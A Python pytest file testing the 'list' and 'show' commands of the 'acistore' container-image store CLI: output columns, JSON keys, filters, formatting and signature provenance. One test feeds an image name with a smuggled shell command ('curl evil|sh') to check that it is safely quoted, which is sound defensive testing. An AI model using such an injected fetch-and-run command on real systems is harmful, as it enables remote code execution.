"""`list` and `show`: what is in the store, for people and for scripts."""

import io
import re
from datetime import UTC, datetime

import pytest

from acistore.store import Admission, Remote, Store, StoredImage
from tests.cli.conftest import add
from tests.cli.running import Run, at_terminal
from tests.images import image

LIST_KEYS = {"id", "name", "labels", "size", "imported_at", "last_used_at", "pinned", "latest"}
SHOW_KEYS = LIST_KEYS | {
    *("annotations", "dependencies", "files", "unique_size", "source", "admissions", "manifest"),
}
ADMISSION_KEYS = {
    *("verdict", "scheme", "fingerprint", "signer", "rule", "signed_at", "admitted_at", "url", "insecure"),
}
TIME = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z")


@pytest.fixture
def base(store: Store) -> StoredImage:
    return add(store, image("example.com/base", {"lib/libc.so": b"\x7fELF"}, labels={"os": "linux"}))


# --- list


def test_a_list_of_nothing_is_a_line_of_headers(run: Run, store: Store) -> None:
    ran = run("list")
    assert (ran.code, ran.err) == (0, "")
    assert ran.out.split() == ["ID", "NAME", "VERSION", "OS", "ARCH", "SIZE", "IMPORTED", "USED"]
    assert run("list", "--no-headers").out == ""
    assert run("--json", "list").out == "[]\n"


def test_list_shows_the_newest_import_first_and_ids_whole_in_a_pipe(
    run: Run, base: StoredImage, app: StoredImage
) -> None:
    first, second = run("list", "--no-headers").out.splitlines()
    assert first.split()[:5] == [str(app.id), "example.com/app", "1.0", "linux", "amd64"]
    assert second.split()[:3] == [str(base.id), "example.com/base", "linux"]
    assert first.endswith("just now")


def test_list_in_json_has_the_keys_of_the_contract(run: Run, app: StoredImage) -> None:
    (listed,) = run("list", "--json").document
    assert set(listed) >= LIST_KEYS
    assert listed["id"] == str(app.id)
    assert listed["labels"] == {"version": "1.0", "os": "linux", "arch": "amd64"}
    assert listed["size"] == app.size
    assert TIME.fullmatch(listed["imported_at"])
    assert TIME.fullmatch(listed["last_used_at"])
    assert (listed["pinned"], listed["latest"]) == (False, False)


def test_list_of_a_name_has_every_image_that_it_fits(run: Run, store: Store, app: StoredImage) -> None:
    newer = add(store, image(labels={"version": "2.0", "os": "linux"}))
    names = ["list", "--format", "{{id}}"]
    assert run(*names, "example.com/app").out.split() == [str(newer.id), str(app.id)]
    assert run(*names, "example.com/app:1.0").out.split() == [str(app.id)]
    assert run(*names, str(app.id)[:20], "example.com/app:1.0").out.split() == [str(app.id)]


def test_list_of_several_reports_each_that_is_not_there(run: Run, app: StoredImage) -> None:
    ran = run("--json", "list", "example.com/none", "example.com/app", "a b", "sha512-" + "0" * 20)
    assert ran.code == 3
    assert [each["name"] for each in ran.document] == ["example.com/app"]
    assert [error["kind"] for error in ran.errors] == ["ImageNotFound", "InvalidName", "ImageNotFound"]


def test_what_to_do_next_can_be_pasted_whatever_the_name_says(run: Run) -> None:
    ran = run("--json", "list", "example.com/app:1;curl evil|sh")
    assert ran.error["next"] == "acistore fetch 'example.com/app:1;curl evil|sh'"


def test_format_prints_exact_values(run: Run, app: StoredImage) -> None:
    form = "{{name}} {{version}} {{os}}/{{ arch }} {{size}} {{pinned}} [{{labels}}] {{labels.os}}{{labels.none}}"
    assert run("list", "--format", form).out == (
        f"example.com/app 1.0 linux/amd64 {app.size} false [arch=amd64,os=linux,version=1.0] linux\n"
    )
    assert TIME.fullmatch(run("list", "--format", "{{imported_at}}").out.strip())


def test_format_refuses_a_field_that_is_none(run: Run) -> None:
    ran = run("list", "--format", "{{Name}}")
    assert ran.code == 2
    assert ran.err.startswith("acistore: --format: 'Name' is not a field: id, name,")


def test_filters_have_to_fit_all(run: Run, base: StoredImage, app: StoredImage) -> None:
    def names(*filters: str) -> list[str]:
        options = [option for each in filters for option in ("--filter", each)]
        return run("list", "--format", "{{name}}", *options).out.split()

    assert names("label=os=linux") == ["example.com/app", "example.com/base"]
    assert names("label=version") == ["example.com/app"]
    assert names("label=os=linux", "name=*/base") == ["example.com/base"]
    assert names("name=example.com/app") == ["example.com/app"]
    assert names("name=example.com") == []
    assert run("list", "--filter", "app").err.startswith("acistore: --filter: 'app' is not a filter, such as")


def test_on_a_terminal_ids_are_short_and_lines_fit(app: StoredImage) -> None:
    seen = at_terminal("list", COLUMNS="50")
    header, line = seen.text.splitlines()
    assert header.startswith("ID")
    assert len(line) == 50
    assert line.endswith("…")
    short = line.split()[0]
    assert str(app.id).startswith(short)
    assert len(short) == len("sha512-") + 12
    assert at_terminal("show", short).code == 0


# --- show


def test_show_in_json_has_the_keys_of_the_contract(run: Run, store: Store, base: StoredImage) -> None:
    needs = [{"imageName": "example.com/base", "imageID": str(base.id), "size": 5}]
    annotations = [{"name": "homepage", "value": "https://example.com/"}]
    found = add(store, image(files={"a": b"abc"}, dependencies=needs, annotations=annotations, more={"x": [1]}))
    shown = run("--json", "show", "example.com/app").document
    assert set(shown) >= SHOW_KEYS
    assert shown["annotations"] == {"homepage": "https://example.com/"}
    assert shown["dependencies"] == [{"name": "example.com/base", "labels": {}, "id": str(base.id), "size": 5}]
    assert shown["files"] == 3
    assert shown["unique_size"] > 0
    assert shown["source"] is None
    (admission,) = shown["admissions"]
    assert set(admission) >= ADMISSION_KEYS
    assert admission["verdict"] == "unverified"
    assert shown["manifest"]["more"] == {"x": [1]}
    assert shown["id"] == str(found.id)


def test_show_tells_where_an_image_came_from_and_who_vouched_for_it(run: Run, store: Store) -> None:
    when = datetime(2024, 6, 1, 12, tzinfo=UTC)
    url = "https://example.com/app.aci"
    remote = Remote(
        url=url,
        asked="example.com/app",
        signature_url=f"{url}.asc",
        etag='"1"',
        last_modified=None,
        max_age=0,
        fetched_at=when,
    )
    admission = Admission(
        "verified",
        when,
        scheme="openpgp",
        fingerprint="4f1a0c5e" * 5,
        signer="Release <release@example.com>",
        rule="example.com/app",
        signed_at=when,
        url=url,
        insecure=("http",),
    )
    store.add(io.BytesIO(image()), remote=remote, admit=lambda _id, _manifest: [admission])
    shown = run("--json", "show", "example.com/app").document
    assert shown["source"] == {"url": url, "etag": '"1"', "fetched_at": "2024-06-01T12:00:00Z"}
    (admitted,) = shown["admissions"]
    assert admitted == {
        "verdict": "verified",
        "scheme": "openpgp",
        "fingerprint": "4f1a0c5e" * 5,
        "signer": "Release <release@example.com>",
        "rule": "example.com/app",
        "signed_at": "2024-06-01T12:00:00Z",
        "admitted_at": "2024-06-01T12:00:00Z",
        "url": url,
        "insecure": ["http"],
    }
    text = run("show", "example.com/app").out
    assert url in text
    assert "signed by Release <release@example.com>, 2024-06-01" in text
    assert "4F1A 0C5E 4F1A 0C5E" in text
    assert "while these checks were off: http" in text


def test_show_reads_well(run: Run, store: Store) -> None:
    app = {
        "exec": ["/bin/serve", "--greeting", "good day"],
        "user": "www",
        "group": "www",
        "workingDirectory": "/srv",
        "environment": [{"name": "LANG", "value": "C"}],
        "ports": [{"name": "http", "protocol": "tcp", "port": 80}],
        "mountPoints": [{"name": "data", "path": "/data", "readOnly": True}],
    }
    add(store, image(app=app, pathWhitelist=["/bin/serve"], dependencies=[{"imageName": "example.com/base"}]))
    text = run("show", "example.com/app").out
    for line in (
        "example.com/app",
        "  runs         /bin/serve --greeting 'good day'",
        "  as           user www, group www",
        "  in           /srv",
        "  environment  LANG=C",
        "  mount point  data at /data (read-only)",
        "  port         http 80/tcp",
        "  example.com/base",
        "  /bin/serve",
    ):
        assert line in text.splitlines()


def test_a_beginning_that_fits_several_images_lists_them(run: Run, store: Store) -> None:
    images = [add(store, image(f"example.com/app{number}")) for number in range(40)]
    first_digits = [str(each.id)[:9] for each in images]
    shared = next(digits for digits in first_digits if first_digits.count(digits) > 1)
    error = run("--json", "show", shared).error
    assert (error["kind"], error["exit_code"]) == ("AmbiguousImage", 2)
    assert set(error["facts"]) == {str(each.id) for each in images if str(each.id).startswith(shared)}


def test_an_image_that_is_not_there_is_not_found(run: Run, store: Store) -> None:
    ran = run("show", "example.com/app")
    assert ran.code == 3
    assert ran.err == (
        "acistore: no image in the store is example.com/app\n  next  acistore fetch example.com/app\n"
    )
